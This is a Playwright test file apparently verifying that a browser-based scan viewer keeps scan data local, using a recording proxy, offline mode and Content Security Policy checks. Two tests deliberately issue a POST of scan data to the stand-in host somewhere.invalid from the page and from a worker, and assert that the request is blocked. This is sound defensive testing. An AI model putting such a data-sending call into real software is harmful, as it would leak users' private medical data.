// The promise: your scans stay on this computer.
import { test as base } from "@playwright/test";

import { expect, test as withVolumes } from "./fixtures";
import { LacunaPage, type ExportKind } from "./lacuna-page";
import { RecordingProxy } from "./recording-proxy";

const KINDS: ExportKind[] = ["metaimage", "nifti", "json", "csv"];

/** A page whose context sends everything through a proxy that notes it. */
const test = withVolumes.extend<{ recorder: RecordingProxy }>({
  recorder: async ({}, use) => {
    const recorder = await RecordingProxy.start();
    await use(recorder);
    recorder.stop();
  },
  context: async ({ browser, recorder, baseURL }, use) => {
    const context = await browser.newContext({ baseURL, proxy: { server: recorder.url } });
    await use(context);
    await context.close();
  },
});

async function fromDropToExport(lacuna: LacunaPage, files: string[], bscans: number): Promise<void> {
  await lacuna.openVolume(files, bscans);
  await lacuna.segmentAll();
  await lacuna.page.keyboard.press("s");
  await expect(lacuna.at("similarity-legend")).toBeVisible();
  for (const kind of KINDS) {
    const { bytes } = await lacuna.save(kind);
    expect(bytes.length).toBeGreaterThan(0);
  }
}

test("no request leaves the page or its workers from drop to export", async ({ lacuna, made, recorder, context }) => {
  const eye = made.phantom(1);
  await lacuna.openReady("device=cpu&lanes=2");
  expect(recorder.requests.length, "the page came through the proxy").toBeGreaterThan(0);

  const before = recorder.requests.length;
  const seen: string[] = [];
  context.on("request", (request) => {
    if (!request.url().startsWith("blob:")) seen.push(`${request.method()} ${request.url()}`);
  });
  lacuna.page.on("websocket", (socket) => seen.push(`web socket ${socket.url()}`));

  await fromDropToExport(lacuna, eye.files, 1);
  expect(recorder.requests.slice(before)).toEqual([]);
  expect(seen).toEqual([]);

  // Were there a request, of the page or of a worker, both would have noticed.
  await lacuna.page.evaluate(async () => void (await fetch("./?asked=by-the-page")));
  const address = new URL("/?asked=by-the-worker", lacuna.page.url()).href;
  await lacuna.page.workers()[0].evaluate(async (address) => void (await fetch(address)), address);
  for (const log of [recorder.requests, seen]) {
    await expect.poll(() => log.join()).toContain("asked=by-the-page");
    await expect.poll(() => log.join()).toContain("asked=by-the-worker");
  }
});

test("with the network cut off everything still works", async ({ lacuna, made, context, recorder }) => {
  const eye = made.phantom(1);
  await lacuna.openReady("device=cpu&lanes=2");
  await context.setOffline(true);
  // The proxy gone too: no connection of any worker can succeed.
  recorder.stop();
  await expect(
    lacuna.page.evaluate(async () => (await fetch(`./?${Date.now()}`)).status),
    "the network is cut off",
  ).rejects.toThrow(/fetch/i);
  await fromDropToExport(lacuna, eye.files, 1);
  await expect(lacuna.error).toHaveCount(0);
});

base("the content security policy allows nothing but the page's own files", async ({ page }) => {
  await page.goto("/");
  const metas = page.locator("meta[http-equiv='Content-Security-Policy' i]");
  await expect(metas).toHaveCount(1);
  const policy = (await metas.getAttribute("content")) ?? "";
  const directives = new Map(
    policy
      .split(";")
      .map((directive) => directive.trim().split(/\s+/))
      .map(([name, ...sources]) => [name, sources] as const),
  );
  expect(directives.get("default-src")).toEqual(["'none'"]);
  expect(directives.get("connect-src")).toEqual(["'self'"]);
  expect(directives.get("form-action")).toEqual(["'none'"]);
  const scripts = directives.get("script-src") ?? [];
  for (const source of scripts) {
    expect(source).toMatch(/^('self'|'wasm-unsafe-eval'|'sha256-[A-Za-z0-9+/=]+')$/);
  }
  for (const sources of directives.values()) {
    for (const source of sources) {
      expect(source, policy).not.toMatch(/^(https?:|wss?:|\*|'unsafe-inline'|'unsafe-eval')/);
      expect(source, "a host of somebody").toMatch(/^('[^']+'|blob:|data:)$/);
    }
  }
  // The policy must stand before anything that it is to govern.
  const before = await metas.evaluate((meta) => {
    const loads = [...document.querySelectorAll("script, link, style")];
    return loads.filter((element) => element.compareDocumentPosition(meta) & Node.DOCUMENT_POSITION_FOLLOWING).length;
  });
  expect(before).toBe(0);
});

test.describe("against code that would send something away", () => {
  // The browser's complaint is the point here.
  test.use({ provoked: /somewhere\.invalid/ });

  test("the policy stops the page", async ({ lacuna, recorder }) => {
    await lacuna.openReady();
    await expect(
      lacuna.page.evaluate(async () => void (await fetch("http://somewhere.invalid/", { method: "POST", body: "scan" }))),
    ).rejects.toThrow(/fetch/i);
    expect(recorder.requests.join()).not.toContain("somewhere.invalid");
  });

  // A worker from a network address lives under the policy of its own script's
  // response, not under the page's <meta>.
  test("the policy stops the engine's worker too", async ({ lacuna, recorder }) => {
    await lacuna.openReady();
    await expect(
      lacuna.page
        .workers()[0]
        .evaluate(async () => void (await fetch("http://somewhere.invalid/", { method: "POST", body: "scan" }))),
    ).rejects.toThrow(/fetch/i);
    expect(recorder.requests.join()).not.toContain("somewhere.invalid");
  });
});
